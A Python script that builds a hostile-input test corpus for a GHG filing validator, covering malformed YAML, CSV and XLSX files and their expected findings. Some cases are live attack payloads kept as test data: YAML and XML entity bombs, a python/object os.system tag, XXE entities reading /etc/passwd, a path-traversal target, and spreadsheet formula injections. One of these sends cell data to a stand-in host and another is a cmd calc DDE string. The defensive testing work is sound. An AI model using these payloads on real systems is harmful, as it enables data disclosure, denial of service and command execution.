"""Writes the hostile-filing corpus of tests/test_hostile_filings.py: filing.yaml variants (yaml/),
CSV side tables (csv/) and XLSX workbooks (xlsx/), each made by hand to break one thing, and
expected.yaml (what each must give: a finding code, where, and whether the filing stays invalid).

Run from the repository root after changing a case or tests/conftest.py's BASE_FILING:
    python -m tests.hostile_filings.make_corpus
The output is deterministic (fixed ZIP timestamps); a test regenerates it and compares.

CSV and XLSX cases are read through the filing ``side_table_filing()`` builds at test time; the
expectation ``at`` is a substring of the finding's location (``e.csv:3:3``, ``e.xlsx!电力!C2``,
or ``line N`` of filing.yaml).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

from tests.conftest import BASE_FILING

HERE = Path(__file__).parent
STAMP = (2026, 1, 1, 0, 0, 0)
RECORD = '        records:\n          - {period: "2025", quantity: 1000, unit: MWh}\n'
GAS = '          - {period: "2025", quantity: 100, unit: "10^4Nm3"}\n'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"

Case = dict[str, Any]
CASES: dict[str, Case] = {}
FILES: dict[str, bytes] = {}


def case(name: str, kind: str, data: bytes, code: str | None, at: str | None = None, *,
         level: str = "invalid", **extra: Any) -> None:
    """Register one corpus file and its expectation (``code`` None: the filing is valid)."""
    suffix = {"yaml": ".yaml", "csv": ".csv", "xlsx": ".xlsx"}[kind]
    rel = f"{kind}/{name}{extra.pop('suffix', suffix)}"
    key = f"{kind}/{name}"
    assert key not in CASES, key
    FILES[rel] = data
    CASES[key] = {"file": rel, "kind": kind, "code": code, "at": at, "level": level, **extra}


# --- filing.yaml ---------------------------------------------------------------------------------

def replaced(old: str, new: str) -> str:
    assert old in BASE_FILING, old
    return BASE_FILING.replace(old, new, 1)


def line_of(text: str, marker: str) -> str:
    return f"line {next(n for n, line in enumerate(text.splitlines(), 1) if marker in line)}"


def ycase(name: str, text: str, code: str | None, marker: str | None = None, **extra: Any) -> None:
    case(name, "yaml", text.encode("utf-8", "surrogatepass"), code,
         line_of(text, marker) if marker else None, **extra)


def qty(value: str) -> str:
    return replaced("quantity: 1000, unit: MWh", f"quantity: {value}, unit: MWh")


def yaml_cases() -> None:
    big = "x: " + "[" * 100_000 + "\n"
    ycase("deep-flow-100k", BASE_FILING + big, "input.limit-exceeded")
    ycase("deep-flow-65", BASE_FILING + "x: " + "[" * 65 + "]" * 65 + "\n", "input.limit-exceeded")
    ycase("deep-block-seq", BASE_FILING + "x:\n  " + "- " * 200 + "a\n", "input.limit-exceeded")
    nested = "x:\n" + "".join("  " * (i + 1) + "a:\n" for i in range(80)) + "  " * 81 + "b\n"
    ycase("deep-block-map", BASE_FILING + nested, "input.limit-exceeded")
    laughs = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    laughs += [f"a{i}: &a{i} [{','.join(f'*a{i - 1}' for _ in range(10))}]" for i in range(1, 10)]
    ycase("billion-laughs", "\n".join(laughs) + "\n", "input.limit-exceeded")
    wide = "big: &big [" + ",".join(["1"] * 2000) + "]\nuse: [" + ",".join(["*big"] * 200) + "]\n"
    ycase("alias-wide", wide, "input.limit-exceeded")
    records = "".join(f'  - &r{i} {{period: "2025", quantity: {i}, unit: MWh}}\n' for i in range(3))
    ycase("alias-record-bomb", "recs: &recs\n" + records + "more: [" + ", ".join(["*recs"] * 40_000) + "]\n",
          "input.limit-exceeded")
    ycase("alias-self", BASE_FILING + "x: &a [1, *a]\n", "input.yaml-syntax", "x: &a")
    ycase("alias-undefined", BASE_FILING + "x: *nowhere\n", "input.yaml-syntax", "*nowhere")
    ycase("merge-key", BASE_FILING.replace("  fiscal_year: 2025\n", "  <<: {fiscal_year: 2025}\n", 1),
          "input.yaml-key", "<<:")
    ycase("complex-key", BASE_FILING + "? [a, b]\n: c\n", "input.yaml-key")
    ycase("duplicate-key", replaced("  fiscal_year: 2025\n", "  fiscal_year: 2025\n  fiscal_year: 2024\n"),
          "input.yaml-duplicate-key", "fiscal_year: 2024")
    ycase("tag-python", replaced('  ghg_standard: "GHG Protocol"', "  ghg_standard: !!python/object:os.system ls"),
          "input.yaml-tag", "python/object")
    ycase("tag-binary", replaced('  ghg_standard: "GHG Protocol"', "  ghg_standard: !!binary aGVsbG8="),
          "input.yaml-tag", "!!binary")
    ycase("tag-collection", replaced("  bases: [sse-no14]", "  bases: !custom [sse-no14]"), "input.yaml-tag",
          "!custom")
    ycase("tag-directive", "%TAG !py! tag:yaml.org,2002:python/\n---\n" + BASE_FILING.replace(
        'ghg_standard: "GHG Protocol"', "ghg_standard: !py!object x"), "input.yaml-tag")
    ycase("two-documents", BASE_FILING + "---\nx: 1\n", "input.yaml-multiple-documents", "x: 1")
    ycase("root-scalar", "just text\n", "input.yaml-root")
    ycase("root-list", "- 1\n- 2\n", "input.yaml-root")
    ycase("empty", "", "input.empty")
    ycase("only-comments", "# nothing here\n# at all\n", "input.empty")
    ycase("only-document-marker", "---\n", "input.empty")
    case("nul-byte", "yaml", BASE_FILING.replace("张三", "张\x00三").encode("utf-8"), "input.encoding")
    case("invalid-utf8", "yaml", BASE_FILING.encode("utf-8").replace("张三".encode(), b"\xff\xfe\xfa"),
         "input.encoding", line_of(BASE_FILING, "张三"))
    case("utf16", "yaml", BASE_FILING.encode("utf-16"), "input.encoding")
    case("gbk", "yaml", BASE_FILING.encode("utf-8").replace("张三".encode(), "张三".encode("gbk")),
         "input.encoding", line_of(BASE_FILING, "张三"))
    ycase("tab-indent", replaced("  fiscal_year: 2025\n", "\tfiscal_year: 2025\n"), "input.yaml-syntax")
    ycase("unterminated-quote", replaced('  ghg_standard: "GHG Protocol"', '  ghg_standard: "GHG Protocol'),
          "input.yaml-syntax")
    ycase("surrogate-escape", replaced('  ghg_standard: "GHG Protocol"', '  ghg_standard: "GHG \\uD800"'),
          "input.yaml-syntax")
    for name, value in (("1e400", "1e400"), ("minus-1e400", "-1e400"), ("9e999999", "9e999999"),
                        ("1e-999999", "1e-999999"), ("digits-5000", "9" * 5000), ("digits-60", "1" * 60),
                        ("decimals-30", "1." + "1" * 30), ("1e18", "1e18"), ("exactly-10-18", "1" + "0" * 18)):
        ycase(f"number-{name}", qty(value), "schema.out-of-range", "unit: MWh}")
    ycase("number-nan", qty(".nan"), "schema.wrong-type", "unit: MWh}")
    ycase("number-inf-text", qty('"Infinity"'), "schema.wrong-type", "unit: MWh}")
    ycase("number-superscript", qty('"1²"'), "schema.wrong-type", "unit: MWh}")
    ycase("number-circled", qty('"①"'), "schema.wrong-type", "unit: MWh}")
    ycase("number-fraction", qty('"½"'), "schema.wrong-type", "unit: MWh}")
    ycase("year-5000-digits", replaced("  fiscal_year: 2025", "  fiscal_year: " + "9" * 5000),
          "schema.out-of-range", "fiscal_year")
    ycase("ownership-1e400", replaced("      ownership_pct: 100", "      ownership_pct: 1e400"),
          "schema.out-of-range", "ownership_pct")
    ycase("revenue-tiny", replaced('revenue: {value: 100000, unit: "10^4CNY"}', 'revenue: {value: 1e-30, unit: '
                                   '"10^4CNY"}'), "schema.out-of-range", "revenue")
    history = "history:\n  - {year: 2024, scope1: 1e400, scope2_location: 10}\n"
    ycase("history-1e400", BASE_FILING + history, "schema.out-of-range", "1e400")
    ycase("history-negative", BASE_FILING + "history:\n  - {year: 2024, scope1: -5, scope2_location: 10}\n",
          "rule.ghg.negative", "scope1: -5")
    ctl = replaced('name: {zh-CN: "测试股份有限公司"', 'name: {zh-CN: "测试\\x01公司"')
    ycase("text-control-x01", ctl, "rule.text.character", "测试\\x01")
    ycase("text-vertical-tab", replaced('name: {zh-CN: "测试股份有限公司"', 'name: {zh-CN: "测试\\v公司"'),
          "rule.text.character", "测试\\v")
    ycase("text-fffe", replaced('name: {zh-CN: "测试股份有限公司"', 'name: {zh-CN: "测试\\uFFFE公司"'),
          "rule.text.character", "FFFE")
    ycase("text-nul-escape", replaced('  ghg_standard: "GHG Protocol"', '  ghg_standard: "GHG\\0Protocol"'),
          "rule.text.character", "ghg_standard")
    ycase("text-escape-in-evidence", qty('1000, evidence: "INV\\x1b[31m"'), "rule.text.character", "INV")
    ycase("name-100001", replaced('name: {zh-CN: "测试股份有限公司"', 'name: {zh-CN: "' + "测" * 100_001 + '"'),
          "rule.text.too-long", "name: {zh-CN")
    ycase("title-300", replaced("测试股份有限公司2025年度可持续发展报告", "测试股份有限公司2025年度可持续发展报告"
                                + "长" * 300), "rule.text.too-long", "title:")
    ycase("company-en-256", replaced('en: "Test Co."}', 'en: "' + "A" * 256 + '"}'), "rule.text.too-long",
          "name: {zh-CN")
    ycase("ghg-standard-120k", replaced('  ghg_standard: "GHG Protocol"', '  ghg_standard: "' + "G" * 120_000 + '"'),
          "rule.text.too-long", "ghg_standard")
    market = ("carbon_market:\n  compliance:\n    - {facility: F1, compliance_year: 2025, allocated: ALLOC, "
              "obligation: OBL, surrendered_allowances: SURR, ccer_surrendered: CCER, surrender_completed: true}\n")

    def m(alloc: str = "1000", obl: str = "1000", surr: str = "1000", ccer: str = "0", twice: bool = False) -> str:
        entry = market.replace("ALLOC", alloc).replace("OBL", obl).replace("SURR", surr).replace("CCER", ccer)
        if twice:
            entry += entry.split("\n", 2)[2]
        return BASE_FILING + entry

    ycase("allocated-negative", m(alloc="-1802400"), "rule.ghg.negative", "allocated")
    ycase("obligation-negative", m(obl="-1"), "rule.ghg.negative", "allocated")
    ycase("surrendered-negative", m(surr="-10"), "rule.ghg.negative", "allocated")
    ycase("ccer-negative", m(ccer="-3"), "rule.ghg.negative", "allocated")
    ycase("ccer-cap-rounding", m(obl="2010.0", surr="2000", ccer="100.5"), "rule.market.ccer-cap", "allocated")
    ycase("compliance-twice", m(twice=True), "rule.ids.duplicate")
    credits = "carbon_market:\n  credits:\n    - {type: CCER, project: X, quantity: -7, purpose: voluntary}\n"
    ycase("credit-negative", BASE_FILING + credits, "rule.ghg.negative", "quantity: -7")
    target = ("targets:\n  - {id: T1, name: {zh-CN: 目标, en: Target}, kind: absolute, scopes: [scope1], "
              "base_year: 2020, base_value: BASE, target_year: 2030, reduction_pct: 30}\n")
    ycase("targets-duplicate-id", BASE_FILING + target.replace("BASE", "100") + target.split("\n", 1)[1].replace(
        "BASE", "200"), "rule.ids.duplicate")
    ycase("target-base-tiny", BASE_FILING + target.replace("BASE", "0.00000000000000000001"),
          "rule.figure.out-of-range", "base_value")
    factor = '{value: FACTOR, unit: tCO2/MWh, source: "测试", justification: {zh-CN: "x。", en: "x."}}'
    loc = ('location_factor: {series: mee-nbs, year: 2023, region: fujian, justification: {zh-CN: "最新。", '
           'en: "Latest."}}')
    ycase("factor-negative", replaced(loc, "location_factor: " + factor.replace("FACTOR", "-0.5")),
          "rule.ghg.negative", "- id: F1")
    ycase("factor-huge", replaced(loc, "location_factor: " + factor.replace("FACTOR", "99999999999999999")),
          "rule.figure.out-of-range", "- id: F1")
    facilities = "".join(f"  - {{id: X{i}}}\n" for i in range(20_001))
    ycase("facilities-20001", BASE_FILING.replace("facilities:\n", "facilities:\n" + facilities, 1),
          "input.limit-exceeded", "- {id: X0}")
    ycase("period-2025-13", replaced('{period: "2025", quantity: 1000', '{period: "2025-13", quantity: 1000'),
          "schema.pattern", "2025-13")
    ycase("date-feb-30", replaced("  period_end: 2025-12-31", "  period_end: 2025-02-30"), "schema.invalid-date",
          "period_end")
    ycase("records-not-a-table", replaced(RECORD, "        records: {file: 42}\n"), "input.table-reference",
          "{file: 42}")
    ycase("records-select-list", replaced(RECORD, "        records: {file: e.csv, select: [a]}\n"),
          "input.table-reference", "select: [a]")
    ycase("valid-control", BASE_FILING, None)
    ycase("valid-small-aliases", BASE_FILING.replace("          ncv: {basis: default}\n",
                                                     "          ncv: &d {basis: default}\n", 1), None)
    ycase("valid-full-width-digits", qty('"１０００"'), None)


# --- CSV side tables -----------------------------------------------------------------------------

CSV_HEAD = "source,period,quantity,unit,evidence\n"


def ccase(name: str, body: str | bytes, code: str | None, at: str | None = None, **extra: Any) -> None:
    data = body if isinstance(body, bytes) else (CSV_HEAD + body).encode("utf-8")
    case(name, "csv", data, code, at, **extra)


def csv_cases() -> None:
    for name, value in (("superscript", "1²"), ("circled", "①"), ("fraction", "½"), ("nan", "nan"),
                        ("inf", "inf"), ("minus-inf", "-inf"), ("infinity", "Infinity"), ("space-thousands", "1 000"),
                        ("bad-thousands", '"1,23"'), ("hex", "0x10"), ("percent", "50%"), ("text", "lots"),
                        ("roman", "Ⅻ")):
        ccase(f"quantity-{name}", f"grid,2025,{value},MWh,INV\n", "schema.wrong-type", "e.csv:2:3")
    for name, value in (("1e400", "1e400"), ("digits-5000", "9" * 5000), ("9e999999", "9e999999"),
                        ("1e-999999", "1e-999999")):
        ccase(f"quantity-{name}", f"grid,2025,{value},MWh,INV\n", "schema.out-of-range", "e.csv:2:3")
    ccase("negative", "grid,2025,-5,MWh,INV\n", "rule.ghg.negative", "e.csv:2:3")
    ccase("control-x01", "grid,2025,1000,MWh,IN\x01V\n", "rule.text.character", "e.csv:2:5")
    ccase("vertical-tab", "grid,2025,1000,MWh,IN\x0bV\n", "rule.text.character", "e.csv:2:5")
    ccase("escape-sequence", "grid,2025,1000,MWh,\x1b[2J\n", "rule.text.character", "e.csv:2:5")
    ccase("fffe", "grid,2025,1000,MWh,INV\ufffe\n", "rule.text.character", "e.csv:2:5")
    ccase("evidence-120k", "grid,2025,1000,MWh," + "E" * 120_000 + "\n", "rule.text.too-long", "e.csv:2:5")
    ccase("field-over-csv-limit", "grid,2025,1000,MWh," + "E" * 140_000 + "\n", "input.csv-syntax", "e.csv")
    ccase("nul-byte", CSV_HEAD.encode() + b"grid,2025,1000,MWh,IN\x00V\n", "input.encoding")
    ccase("invalid-utf8", CSV_HEAD.encode() + b"grid,2025,1000,MWh,\xff\xfe\xfd\xfc\n", "input.encoding")
    ccase("utf16", (CSV_HEAD + "grid,2025,1000,MWh,发票\n").encode("utf-16"), "input.encoding")
    ccase("gbk", (CSV_HEAD + "grid,2025,1000,MWh,电费单\n").encode("gbk"), "input.csv-encoding-gbk", "e.csv",
          level="valid")
    ccase("unterminated-quote", 'grid,2025,1000,MWh,"INV\ngrid,2025-02,5,MWh,x\n', "input.csv-syntax", "e.csv")
    ccase("quote-in-field", 'grid,2025,1000,MWh,"IN"V\n', "input.csv-syntax", "e.csv:2")
    ccase("extra-cells", "grid,2025,1000,MWh,INV,surprise\n", "input.table-row-length", "e.csv:2:6")
    ccase("duplicate-header", b"source,period,quantity,quantity,unit\ngrid,2025,1000,2000,MWh\n",
          "input.table-header", "e.csv:1:1")
    ccase("empty-file", b"", "input.empty")
    ccase("blank-lines-only", b"\n\n  \n,,,\n", "input.empty")
    ccase("header-only", b"source,period,quantity,unit\n", "schema.too-short")
    columns = ",".join(f"c{i}" for i in range(16_385))
    ccase("columns-16385", (columns + "\n").encode(), "input.limit-exceeded", "e.csv:1:16385")
    ccase("period-bad", "grid,2025-1,1000,MWh,INV\n", "schema.pattern", "e.csv:2:2")
    ccase("unit-unknown", "grid,2025,1000,furlongs,INV\n", "rule.units.unknown", "e.csv:2")
    ccase("select-matches-nothing", "other,2025,1000,MWh,INV\n", "input.table-no-rows")
    ccase("duplicate-months", "".join(f"grid,2025-{m % 12 + 1:02d},10,MWh,I{m}\n" for m in range(30)),
          "rule.period.duplicate", "e.csv:14:2")
    ccase("unknown-column", b"source,period,quantity,unit,colour\ngrid,2025,1000,MWh,red\n", "schema.unknown-field",
          "e.csv:2:5")
    ccase("formula-injection", 'grid,2025,1000,MWh,"=HYPERLINK(""http://x.invalid/?""&A1,""click"")"\n', None,
          inject="=HYPERLINK(")
    ccase("formula-injection-at", "grid,2025,1000,MWh,@SUM(1+1)\n", None, inject="@SUM(")
    ccase("formula-injection-minus", "grid,2025,1000,MWh,-2+3+cmd|' /C calc'!A0\n", None, inject="-2+3+cmd")
    ccase("valid-bom", "\ufeff".encode() + (CSV_HEAD + "grid,2025,1000,MWh,INV\n").encode(), None)
    ccase("valid-crlf", (CSV_HEAD + "grid,2025,1000,MWh,INV\n").replace("\n", "\r\n").encode(), None)
    ccase("valid-quoted-newline", 'grid,2025,1000,MWh,"line one\nline two"\n', None)
    ccase("valid-thousands", 'grid,2025,"1,000",MWh,INV\n', None)
    ccase("valid-ideographic-space", "grid,2025,\u30001000\u3000,MWh,INV\n", None)
    wide = "ｓｏｕｒｃｅ,ｐｅｒｉｏｄ,ｑｕａｎｔｉｔｙ,ｕｎｉｔ\n"
    ccase("valid-full-width-header", (wide + "grid,2025,1000,MWh\n").encode(), None)
    ccase("valid-tsv", b"source\tperiod\tquantity\tunit\ngrid\t2025\t1000\tMWh\n", None, suffix=".tsv")
    ccase("format-json", b'{"source": "grid"}', "input.table-format", suffix=".json")


# --- XLSX workbooks ------------------------------------------------------------------------------

def sheet_xml(rows: list[str], extra: str = "", root: str = "worksheet", ns: str = MAIN) -> str:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><{root} xmlns="{ns}" xmlns:r="{REL}">' \
           f'<sheetData>{"".join(rows)}</sheetData>{extra}</{root}>'


STRINGS = ["source", "period", "quantity", "unit", "evidence", "grid", "2025", "MWh", "INV-1"]
HEADER_ROW = '<row r="1">' + "".join(f'<c r="{c}1" t="s"><v>{i}</v></c>' for i, c in enumerate("ABCDE")) + "</row>"


def data_row(n: int = 2, quantity: str = '<c r="C{n}"><v>1000</v></c>',
             evidence: str = '<c r="E{n}" t="s"><v>8</v></c>', attrs: str = "") -> str:
    return (f'<row r="{n}"{attrs}><c r="A{n}" t="s"><v>5</v></c><c r="B{n}" t="s"><v>6</v></c>'
            f'{quantity.format(n=n)}<c r="D{n}" t="s"><v>7</v></c>{evidence.format(n=n)}</row>')


def workbook_parts(sheets: list[tuple[str, str, str]] | None = None, *, sheet: str | None = None,
                   strings: str | None = None, styles: str | None = None, workbook_extra: str = "") -> dict[str, str]:
    """A small valid workbook; ``sheets`` is (name, state, kind) of each sheet (kind worksheet/chartsheet)."""
    sheets = sheets or [("电力", "visible", "worksheet")]
    entries, rels, parts = [], [], {}
    for i, (name, state, kind) in enumerate(sheets, start=1):
        st = "" if state == "visible" else f' state="{state}"'
        entries.append(f'<sheet name="{name}" sheetId="{i}"{st} r:id="rId{i}"/>')
        folder = "worksheets" if kind == "worksheet" else "chartsheets"
        rels.append(f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{folder}/sheet{i}.xml"/>')
        if kind == "worksheet":
            parts[f"xl/worksheets/sheet{i}.xml"] = sheet or sheet_xml([HEADER_ROW, data_row()])
        else:
            parts[f"xl/chartsheets/sheet{i}.xml"] = f'<chartsheet xmlns="{MAIN}"/>'
    n = len(sheets)
    rels.append(f'<Relationship Id="rId{n + 1}" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>')
    rels.append(f'<Relationship Id="rId{n + 2}" Type="{REL}/styles" Target="styles.xml"/>')
    sst = "".join(f"<si><t>{s}</t></si>" for s in STRINGS)
    parts.update({
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                               'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                               '</Types>',
        "_rels/.rels": f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/officeDocument" '
                       f'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}">'
                           f'{workbook_extra}<sheets>{"".join(entries)}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PKG}">{"".join(rels)}</Relationships>',
        "xl/sharedStrings.xml": strings if strings is not None else f'<sst xmlns="{MAIN}">{sst}</sst>',
        "xl/styles.xml": styles if styles is not None else (
            f'<styleSheet xmlns="{MAIN}"><numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts>'
            '<cellXfs count="4"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="31"/></cellXfs>'
            '</styleSheet>'),
    })
    return parts


def zipped(parts: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as book:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, STAMP)
            info.compress_type = method
            book.writestr(info, content.encode("utf-8") if isinstance(content, str) else content)
    return buffer.getvalue()


def xcase(name: str, parts: dict[str, str | bytes] | bytes, code: str | None, at: str | None = None,
          **extra: Any) -> None:
    case(name, "xlsx", parts if isinstance(parts, bytes) else zipped(parts), code, at, **extra)


def bad_part(part: str, content: str | bytes) -> dict[str, str | bytes]:
    parts: dict[str, str | bytes] = dict(workbook_parts())
    parts[part] = content
    return parts


def without(part: str) -> dict[str, str | bytes]:
    parts: dict[str, str | bytes] = dict(workbook_parts())
    del parts[part]
    return parts


def cell_case(name: str, quantity: str, code: str, at: str = "e.xlsx!电力!C2", **extra: Any) -> None:
    xcase(name, workbook_parts(sheet=sheet_xml([HEADER_ROW, data_row(quantity=quantity)])), code, at, **extra)


BOMB_DTD = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;">'
            '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;">]>')


def xlsx_cases() -> None:
    good = workbook_parts()
    xcase("valid-control", good, None)
    xcase("not-a-zip", b"source,period\ngrid,2025\n", "input.xlsx-unreadable")
    xcase("empty-file", b"", "input.xlsx-unreadable")
    xcase("truncated-zip", zipped(good)[:200], "input.xlsx-unreadable")
    xcase("ole2-encrypted", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "input.xlsx-unreadable")
    xcase("zip-garbage-after-magic", b"PK\x03\x04" + b"\x00garbage" * 40, "input.xlsx-unreadable")
    xcase("no-content-types", without("[Content_Types].xml"), "input.xlsx-part")
    xcase("content-types-garbage", bad_part("[Content_Types].xml", "\x00\x01 not xml"), "input.xlsx-part")
    xcase("content-types-doctype", bad_part("[Content_Types].xml", BOMB_DTD + "<Types/>"), "input.xlsx-unsafe")
    xcase("no-package-rels", without("_rels/.rels"), "input.xlsx-part")
    xcase("package-rels-no-office", bad_part("_rels/.rels", f'<Relationships xmlns="{PKG}"/>'), "input.xlsx-part")
    xcase("package-rels-garbage", bad_part("_rels/.rels", "<Relationships"), "input.xlsx-part")
    xcase("workbook-garbage", bad_part("xl/workbook.xml", "this is not xml"), "input.xlsx-part")
    xcase("workbook-truncated", bad_part("xl/workbook.xml", str(good["xl/workbook.xml"])[:60]), "input.xlsx-part")
    xcase("workbook-wrong-root", bad_part("xl/workbook.xml", f'<notebook xmlns="{MAIN}"/>'), "input.xlsx-part")
    xcase("workbook-no-sheets", bad_part("xl/workbook.xml", f'<workbook xmlns="{MAIN}"><sheets/></workbook>'),
          "input.xlsx-part")
    xcase("workbook-sheet-no-rid", bad_part("xl/workbook.xml", f'<workbook xmlns="{MAIN}"><sheets><sheet name="电力" '
                                                                'sheetId="1"/></sheets></workbook>'), "input.xlsx-part")
    xcase("workbook-sheet-state", bad_part("xl/workbook.xml", str(good["xl/workbook.xml"]).replace(
        'sheetId="1"', 'sheetId="1" state="sideways"')), "input.xlsx-part")
    xcase("workbook-doctype-xxe", bad_part("xl/workbook.xml", '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM '
                                                              '"file:///etc/passwd">]>' + str(good["xl/workbook.xml"])
                                           .split("?>", 1)[1]), "input.xlsx-unsafe")
    xcase("workbook-rels-doctype", bad_part("xl/_rels/workbook.xml.rels", BOMB_DTD + "<Relationships/>"),
          "input.xlsx-unsafe")
    xcase("workbook-rels-garbage", bad_part("xl/_rels/workbook.xml.rels", "<<>>"), "input.xlsx-part")
    xcase("workbook-rels-no-target", bad_part("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{PKG}">'
                                              f'<Relationship Id="rId1" Type="{REL}/worksheet"/></Relationships>'),
          "input.xlsx-part")
    xcase("sheet-missing-part", without("xl/worksheets/sheet1.xml"), "input.xlsx-part")
    xcase("sheet-target-escapes", bad_part("xl/_rels/workbook.xml.rels", str(good["xl/_rels/workbook.xml.rels"])
                                           .replace("worksheets/sheet1.xml", "../../../../etc/passwd")),
          "input.xlsx-part")
    xcase("sheet-not-xml", bad_part("xl/worksheets/sheet1.xml", "PK\x03\x04 binary junk \x00\x01\x02"),
          "input.xlsx-part")
    xcase("sheet-truncated", bad_part("xl/worksheets/sheet1.xml", str(good["xl/worksheets/sheet1.xml"])[:300]),
          "input.xlsx-part")
    xcase("sheet-wrong-root", bad_part("xl/worksheets/sheet1.xml", sheet_xml([HEADER_ROW, data_row()], root="chart")),
          "input.xlsx-part")
    xcase("sheet-billion-laughs", bad_part("xl/worksheets/sheet1.xml", BOMB_DTD + sheet_xml(
        [HEADER_ROW, data_row(evidence='<c r="E{n}" t="inlineStr"><is><t>&lol2;</t></is></c>')]).split("?>", 1)[1]),
          "input.xlsx-unsafe")
    xcase("sheet-xxe", bad_part("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM '
                                '"file:///etc/hostname">]>' + sheet_xml([HEADER_ROW, data_row(
                                    evidence='<c r="E{n}" t="inlineStr"><is><t>&x;</t></is></c>')]).split("?>", 1)[1]),
          "input.xlsx-unsafe")
    blow = "A" * 5000
    xcase("sheet-quadratic-blowup", bad_part("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><!DOCTYPE w '
                                             f'[<!ENTITY a "{blow}">]>' + sheet_xml([HEADER_ROW, data_row(
                                                 evidence='<c r="E{n}" t="inlineStr"><is><t>' + "&a;" * 2000
                                                 + '</t></is></c>')]).split("?>", 1)[1]), "input.xlsx-unsafe")
    xcase("sheet-utf16", bad_part("xl/worksheets/sheet1.xml", sheet_xml([HEADER_ROW, data_row()]).replace(
        "UTF-8", "UTF-16").encode("utf-16")), "input.xlsx-unsafe")
    xcase("sheet-latin1", bad_part("xl/worksheets/sheet1.xml", sheet_xml([HEADER_ROW, data_row()]).replace(
        "UTF-8", "ISO-8859-1")), "input.xlsx-unsafe")
    xcase("sheet-deep-nesting", bad_part("xl/worksheets/sheet1.xml", sheet_xml(
        [HEADER_ROW, data_row()], extra="<x>" * 300 + "</x>" * 300)), "input.xlsx-part")
    xcase("strings-garbage", bad_part("xl/sharedStrings.xml", "\x00\x00\x00"), "input.xlsx-part")
    xcase("strings-truncated", bad_part("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}"><si><t>sour'), "input.xlsx-part")
    xcase("strings-billion-laughs", bad_part("xl/sharedStrings.xml", BOMB_DTD + f'<sst xmlns="{MAIN}"><si><t>&lol2;'
                                                                                '</t></si></sst>'),
          "input.xlsx-unsafe")
    xcase("strings-xxe", bad_part("xl/sharedStrings.xml", '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                  f'<sst xmlns="{MAIN}"><si><t>&x;</t></si></sst>'), "input.xlsx-unsafe")
    xcase("strings-huge-text-node", bad_part("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}"><si><t>'
                                             + "x" * 11_000_000 + "</t></si></sst>"), "input.xlsx-part")
    xcase("styles-garbage", bad_part("xl/styles.xml", "not styles"), "input.xlsx-part")
    xcase("styles-entity", bad_part("xl/styles.xml", BOMB_DTD + f'<styleSheet xmlns="{MAIN}"/>'), "input.xlsx-unsafe")
    xcase("styles-numfmt-text", bad_part("xl/styles.xml", f'<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="abc"/>'
                                                         "</cellXfs></styleSheet>"), "input.xlsx-part")
    cell_case("cell-inf", '<c r="C{n}"><v>inf</v></c>', "input.xlsx-cell")
    cell_case("cell-nan", '<c r="C{n}" t="n"><v>NaN</v></c>', "input.xlsx-cell")
    cell_case("cell-number-text", '<c r="C{n}"><v>lots</v></c>', "input.xlsx-cell")
    cell_case("cell-number-1e400", '<c r="C{n}"><v>1E+400</v></c>', "schema.out-of-range")
    cell_case("cell-date-garbage", '<c r="C{n}" t="d"><v>yesterday</v></c>', "input.xlsx-cell")
    cell_case("cell-bool-2", '<c r="C{n}" t="b"><v>2</v></c>', "input.xlsx-cell")
    cell_case("cell-type-unknown", '<c r="C{n}" t="zzz"><v>1</v></c>', "input.xlsx-cell")
    cell_case("cell-shared-out-of-range", '<c r="C{n}" t="s"><v>999</v></c>', "input.xlsx-cell")
    cell_case("cell-shared-not-number", '<c r="C{n}" t="s"><v>x1</v></c>', "input.xlsx-cell")
    cell_case("cell-shared-negative", '<c r="C{n}" t="s"><v>-1</v></c>', "input.xlsx-cell")
    cell_case("cell-ref-zzzzzz", '<c r="ZZZZZZ2"><v>1</v></c>', "input.xlsx-cell", "e.xlsx!电力!A2")
    cell_case("cell-ref-other-row", '<c r="C9"><v>1</v></c>', "input.xlsx-cell", "e.xlsx!电力!A2")
    cell_case("cell-ref-lowercase", '<c r="c2"><v>1</v></c>', "input.xlsx-cell", "e.xlsx!电力!A2")
    cell_case("cell-ref-xfe", '<c r="XFE2"><v>1</v></c>', "input.xlsx-cell", "e.xlsx!电力!A2")
    cell_case("cell-repeated", '<c r="B{n}"><v>1</v></c>', "input.xlsx-cell", "e.xlsx!电力!B2")
    cell_case("cell-style-out-of-range", '<c r="C{n}" s="99"><v>1000</v></c>', "input.xlsx-cell")
    cell_case("cell-style-text", '<c r="C{n}" s="x"><v>1000</v></c>', "input.xlsx-cell")
